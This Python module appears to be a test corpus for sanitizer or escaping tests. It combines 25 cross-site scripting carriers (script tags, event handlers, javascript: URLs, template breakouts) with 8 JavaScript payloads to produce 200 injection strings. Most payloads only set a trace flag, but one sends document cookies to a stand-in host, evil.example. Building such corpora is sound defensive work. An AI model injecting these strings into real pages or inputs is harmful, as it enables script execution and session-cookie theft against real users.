"""Two hundred texts that a careless page would run: carriers that break out of where text stands,
each with payloads that leave a trace.
"""

from __future__ import annotations

from typing import Final

TRACE: Final = "window.__ran=1"
_PAYLOADS: Final = (
    TRACE,
    "alert(1)",
    "window['__r'+'an']=1",
    "self[`__ran`]=1",
    "eval('__ran=1')",
    "setTimeout('__ran=1')",
    "fetch('//evil.example/'+document.cookie)",
    "new Function('__ran=1')()",
)
_CARRIERS: Final = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    '<object data="javascript:{}"></object>',
    "<style>@import 'javascript:{}';</style>",
    '<div style="background:url(javascript:{})">',
    '<base href="javascript:{}//">',
    "${{{}}}",
    "{{{{{}}}}}",
    "<%= {} %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "javascript:{}",
    '" onmouseover="{}" x="',
    "</text></svg><img src=x onerror={}>",
)

CORPUS: Final = tuple(carrier.format(payload) for carrier in _CARRIERS for payload in _PAYLOADS)
